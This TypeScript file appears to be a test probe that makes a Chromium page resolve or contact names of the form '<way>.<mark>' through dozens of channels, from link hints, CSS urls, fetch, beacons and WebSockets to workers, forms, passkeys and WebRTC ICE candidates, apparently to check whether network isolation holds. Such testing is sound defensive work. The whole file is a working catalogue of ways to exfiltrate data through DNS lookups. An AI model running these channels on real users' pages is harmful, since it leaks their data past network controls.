/**
 * What a hostile page does to have a name looked up: in every way that Chromium has, each with a name of its own, as a
 * page would send a code out. Runs in the page, and so holds all that it needs.
 *
 * @param mark what the names have in common: "<way>.<mark>".
 * @returns the ways that were tried, once all that tells of its end has ended.
 */
export async function askForNames(mark: string): Promise<string[]> {
  const tried: string[] = [];
  const ends: Promise<unknown>[] = [];
  /** Tries one way with a name of its own. What isn't there, or isn't allowed, was tried all the same. */
  const attempt = (way: string, act: (host: string) => unknown): void => {
    tried.push(way);
    try {
      ends.push(Promise.resolve(act(`${way}.${mark}`)).catch(() => undefined));
    } catch {
      // Trusted types, say.
    }
  };
  const made = (
    tag: string,
    attributes: Readonly<Record<string, string>>,
    parent: Element = document.body,
  ): Promise<unknown> => {
    const element = document.createElement(tag);
    const ended = new Promise((resolve) => {
      for (const event of ['load', 'error', 'securitypolicyviolation'])
        element.addEventListener(event, resolve, { once: true });
    });
    for (const [name, text] of Object.entries(attributes)) element.setAttribute(name, text);
    parent.append(element);
    return ended;
  };
  /** Of what tells nothing of its end. */
  const left = (...all: Parameters<typeof made>): void => void made(...all);
  /** What this Chromium may or may not have. */
  const construct = (name: string, ...args: unknown[]): Record<string, unknown> => {
    const kind: unknown = Reflect.get(globalThis, name);
    if (typeof kind !== 'function') throw new TypeError(`no ${name}`);
    return Reflect.construct(kind, args) as Record<string, unknown>;
  };

  // Hints.
  left('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }, document.head);
  for (const rel of [
    ...['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'next', 'modulepreload', 'manifest', 'icon'],
    ...['apple-touch-icon', 'stylesheet', 'search', 'pingback', 'import', 'compression-dictionary'],
  ])
    attempt(rel, (host) => left('link', { rel, href: `https://${host}/x` }, document.head));
  for (const as of ['image', 'script', 'style', 'font', 'fetch', 'track'])
    attempt(`preload-${as}`, (host) =>
      left('link', { rel: 'preload', as, href: `https://${host}/x`, crossorigin: '' }, document.head),
    );
  attempt('preconnect-http', (host) =>
    left('link', { rel: 'preconnect', href: `http://${host}` }, document.head),
  );
  attempt('anchor', (host) => left('a', { href: `http://${host}/` }));
  for (const eagerness of ['immediate', 'eager', 'moderate'])
    for (const action of ['prefetch', 'prerender'])
      attempt(`speculation-${action}-${eagerness}`, (host) => {
        const rules = document.createElement('script');
        rules.type = 'speculationrules';
        rules.textContent = JSON.stringify({ [action]: [{ urls: [`https://${host}/x`], eagerness }] });
        document.head.append(rules);
      });

  // Elements.
  const sources: readonly (readonly [string, string])[] = [
    ...(['img', 'iframe', 'frame', 'script', 'embed', 'audio', 'video', 'track', 'fencedframe'] as const).map(
      (tag) => [tag, 'src'] as const,
    ),
    ...[['object', 'data'] as const, ['video', 'poster'] as const, ['body', 'background'] as const],
    ...[['img', 'attributionsrc'] as const, ['portal', 'src'] as const],
  ];
  for (const [tag, attribute] of sources)
    attempt(`${tag}-${attribute}`, (host) => left(tag, { [attribute]: `https://${host}/x` }));
  attempt('srcset', (host) => left('img', { srcset: `https://${host}/x 1x` }));
  attempt('image-input', (host) => left('input', { type: 'image', src: `https://${host}/x` }));
  attempt('svg-image', (host) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `https://${host}/x`);
    svg.append(image);
    document.body.append(svg);
  });
  attempt('meta-refresh', (host) =>
    left('meta', { 'http-equiv': 'refresh', content: `0; url=https://${host}/` }, document.head),
  );
  attempt('policy-report', (host) => {
    const content = `img-src 'none'; report-uri https://${host}/x; report-to x`;
    left('meta', { 'http-equiv': 'Content-Security-Policy', content }, document.head);
    left('img', { src: 'https://refused.invalid/x' });
  });
  attempt('favicon', (host) => {
    for (const icon of document.querySelectorAll('link[rel=icon]')) icon.setAttribute('href', `//${host}/x`);
  });

  // Styles.
  const styled = (rule: (url: string) => string) => (host: string) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(rule(`url("https://${host}/x")`));
    document.adoptedStyleSheets.push(sheet);
  };
  attempt(
    'style-background',
    styled((url) => `body { background-image: ${url} }`),
  );
  attempt(
    'style-cursor',
    styled((url) => `body { cursor: ${url}, auto }`),
  );
  attempt(
    'style-import',
    styled((url) => `@import ${url};`),
  );
  attempt(
    'style-font',
    styled((url) => `@font-face { font-family: f; src: ${url} } body { font-family: f }`),
  );
  attempt('inline-style', (host) => left('div', { style: `background: url("https://${host}/x")` }));
  attempt('font-face', (host) => new FontFace('g', `url("https://${host}/x")`).load());

  // Requests.
  for (const mode of ['cors', 'no-cors', 'same-origin'] as const)
    attempt(`fetch-${mode}`, (host) => fetch(`https://${host}/x`, { mode, method: 'POST', body: 'x' }));
  attempt('fetch-http', (host) => fetch(`http://${host}/x`, { mode: 'no-cors', keepalive: true }));
  attempt('fetch-later', (host) => {
    const later: unknown = Reflect.get(globalThis, 'fetchLater');
    if (typeof later === 'function')
      Reflect.apply(later, undefined, [`https://${host}/x`, { activateAfter: 0 }]);
  });
  attempt('request', (host) => {
    const request = new XMLHttpRequest();
    request.open('GET', `https://${host}/x`);
    const ended = new Promise((resolve) => request.addEventListener('loadend', resolve));
    request.send();
    return ended;
  });
  attempt('beacon', (host) => navigator.sendBeacon(`https://${host}/x`, 'x'));
  attempt('event-source', (host) => void new EventSource(`https://${host}/x`));
  for (const scheme of ['ws', 'wss'])
    attempt(scheme, (host) => {
      const socket = new WebSocket(`${scheme}://${host}/x`);
      return new Promise((resolve) => socket.addEventListener('error', resolve));
    });
  attempt('socket-stream', (host) => construct('WebSocketStream', `wss://${host}/x`)['opened']);
  attempt('web-transport', (host) => construct('WebTransport', `https://${host}/x`)['ready']);
  attempt('tcp-socket', (host) => construct('TCPSocket', host, 443)['opened']);
  attempt('worker', (host) => void new Worker(`https://${host}/x`));
  attempt('shared-worker', (host) => void new SharedWorker(`https://${host}/x`));
  attempt('service-worker', (host) => navigator.serviceWorker.register(`https://${host}/x`));
  attempt('worklet', (host) => new AudioContext().audioWorklet.addModule(`https://${host}/x`));
  attempt('cache', async (host) => (await caches.open('x')).add(`https://${host}/x`));
  attempt('passkey', (host) =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: host } }),
  );
  attempt('payment', (host) => {
    const total = { label: 'x', amount: { currency: 'USD', value: '1' } };
    return new PaymentRequest([{ supportedMethods: `https://${host}/x` }], { total }).canMakePayment();
  });
  attempt('notification', (host) => void new Notification('x', { icon: `https://${host}/x` }));

  // Elsewhere.
  attempt('ping', (host) => {
    const link = document.createElement('a');
    link.href = '#ping';
    link.setAttribute('ping', `https://${host}/x`);
    document.body.append(link);
    link.click();
  });
  for (const method of ['get', 'post'])
    attempt(`form-${method}`, (host) => {
      const form = document.createElement('form');
      Object.assign(form, { method, action: `https://${host}/x`, target: method === 'get' ? '_blank' : '' });
      document.body.append(form);
      form.submit();
    });
  attempt('open', (host) => void window.open(`https://${host}/x`));
  attempt('download', (host) => {
    const link = document.createElement('a');
    Object.assign(link, { href: `https://${host}/x`, download: 'x' });
    document.body.append(link);
    link.click();
  });

  // Calls: servers that would tell an address, and addresses of the other side that are names.
  const called = async (urls: readonly string[], policy: RTCIceTransportPolicy): Promise<void> => {
    const iceServers = urls.map((url) => ({ urls: url, username: 'x', credential: 'x' }));
    const connection = new RTCPeerConnection({ iceServers, iceTransportPolicy: policy });
    connection.createDataChannel('x');
    const gathered = new Promise<void>((resolve) => {
      connection.onicegatheringstatechange = () => {
        if (connection.iceGatheringState === 'complete') resolve();
      };
    });
    await connection.setLocalDescription(await connection.createOffer());
    await gathered;
    connection.close();
  };
  attempt('stun', (host) => called([`stun:${host}:3478`], 'all'));
  attempt('turn-udp', (host) => called([`turn:${host}:3478?transport=udp`], 'relay'));
  attempt('turn-tcp', (host) => called([`turn:${host}:3478?transport=tcp`], 'relay'));
  attempt('turns', (host) => called([`turns:${host}:443?transport=tcp`], 'relay'));
  const answered = async (host: string, transport: 'udp' | 'tcp'): Promise<void> => {
    const caller = new RTCPeerConnection();
    const called = new RTCPeerConnection();
    caller.createDataChannel('x');
    await caller.setLocalDescription(await caller.createOffer());
    await called.setRemoteDescription(caller.localDescription ?? { type: 'offer', sdp: '' });
    await called.setLocalDescription(await called.createAnswer());
    await caller.setRemoteDescription(called.localDescription ?? { type: 'answer', sdp: '' });
    const end = transport === 'tcp' ? ' tcptype passive' : '';
    await caller.addIceCandidate({
      candidate: `candidate:1 1 ${transport} 2113937151 ${host} 50000 typ host${end}`,
      sdpMid: '0',
      sdpMLineIndex: 0,
    });
  };
  attempt('candidate', (host) => answered(host, 'udp'));
  attempt('candidate-tcp', (host) => answered(host, 'tcp'));
  attempt('candidate-mdns', (host) => answered(`${host.replaceAll('.', '-')}.local`, 'udp'));

  await Promise.all(ends);
  return tried;
}
